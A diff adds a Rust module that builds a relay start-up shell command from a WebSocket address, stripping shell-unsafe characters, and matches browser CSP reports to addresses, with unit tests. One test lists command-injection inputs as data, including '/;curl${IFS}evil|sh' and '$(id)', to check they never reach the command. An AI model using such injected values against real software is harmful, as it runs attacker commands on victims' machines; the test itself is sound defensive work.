@@ -1,0 +1,118 @@
+//! The policy of the page's server, which names the gateways that the page may
+//! connect to.
+
+use super::address::{self, Address};
+
+/// The command that starts a relay whose page may connect to the address.
+///
+/// The address may come from a link, and the command ends in a shell: only
+/// what no shell reads as more than a word is made into one. A path with other
+/// letters is left out (the policy is about the origin), and for a host with
+/// them there is no command.
+#[must_use]
+pub fn relay_command(address: &Address) -> Option<String> {
+    let origin = address.origin();
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '/');
+    let is_safe = |text: &str| text.chars().all(is_plain);
+    let path = Some(address.path()).filter(|path| is_safe(path));
+    let named = format!("{origin}{}", path.unwrap_or_default());
+    // Brackets are a pattern to some shells; inside of quotes they are not.
+    let named = match origin.contains('[') {
+        true if is_safe(&origin.replace(['[', ']'], "")) => format!("\"{named}\""),
+        false if is_safe(&origin) => named,
+        _ => return None,
+    };
+    Some(format!("clawline-relay serve --gateway {named}"))
+}
+
+/// Whether what the browser refused to open (`blockedURI` of its report) is
+/// this address. Browsers report it whole or its origin only, with the default
+/// port or without, or nothing at all.
+#[must_use]
+pub fn concerns(address: &Address, blocked: &str) -> bool {
+    let Some((scheme, rest)) = blocked.split_once("://") else {
+        return true;
+    };
+    let scheme = match scheme {
+        "https" | "wss" => "wss",
+        _ => "ws",
+    };
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    match address::parse(&format!("{scheme}://{host}")) {
+        // Browsers report a foreign name in its ASCII form; we have the other.
+        Ok(blocked) if address.origin().is_ascii() => blocked.has_origin_of(address),
+        _ => true,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn address(text: &str) -> Address {
+        address::parse(text).unwrap_or_else(|problem| panic!("{text}: {}", problem.message))
+    }
+
+    #[test]
+    fn the_command_names_the_gateway() {
+        for (typed, named) in [
+            ("ws://192.168.1.4:18789", "ws://192.168.1.4:18789"),
+            ("wss://gate.example/claw/x-1", "wss://gate.example/claw/x-1"),
+            ("ws://[::1]:18789/", "\"ws://[::1]:18789/\""),
+            ("wss://gate.example/claw?v=4", "wss://gate.example/claw"),
+        ] {
+            let command = format!("clawline-relay serve --gateway {named}");
+            assert_eq!(relay_command(&address(typed)), Some(command));
+        }
+    }
+
+    #[test]
+    fn what_a_shell_would_read_never_gets_into_the_command() {
+        for path in [
+            "/;curl${IFS}evil|sh",
+            "/$(id)",
+            "/`id`",
+            "/&id",
+            "/%PATH%",
+            "/'x",
+            "/a\\b",
+            "/~x",
+            "/*",
+            "/!x",
+            "/(x)",
+            "?a=1;id",
+            "?a=$(id)&b",
+        ] {
+            let Ok(address) = address::parse(&format!("ws://x:1{path}")) else {
+                continue;
+            };
+            let command = relay_command(&address).expect("the host is plain");
+            let word = command.strip_prefix("clawline-relay serve --gateway ");
+            assert!(matches!(word, Some("ws://x:1" | "ws://x:1/")), "{command}");
+        }
+        assert_eq!(relay_command(&address("ws://höst")), None);
+        assert_eq!(relay_command(&address("ws://a_b")), None);
+    }
+
+    #[test]
+    fn a_refusal_is_known_by_its_origin_however_it_is_written() {
+        for (typed, blocked) in [
+            ("ws://gate.example", "ws://gate.example:80/"),
+            ("ws://gate.example:80/x", "ws://gate.example"),
+            ("wss://gate.example:443", "wss://gate.example/"),
+            ("ws://[::1]:1/x", "ws://[::1]:1"),
+            ("ws://gate.example", ""),
+            ("ws://gate.example", "ws"),
+            ("wss://höst", "wss://xn--hst-sna/"),
+        ] {
+            assert!(concerns(&address(typed), blocked), "{typed} {blocked}");
+        }
+        for (typed, blocked) in [
+            ("ws://a:1", "ws://a:18/"),
+            ("ws://a", "ws://a.evil/"),
+            ("ws://a", "wss://a/"),
+        ] {
+            assert!(!concerns(&address(typed), blocked), "{typed} {blocked}");
+        }
+    }
+}
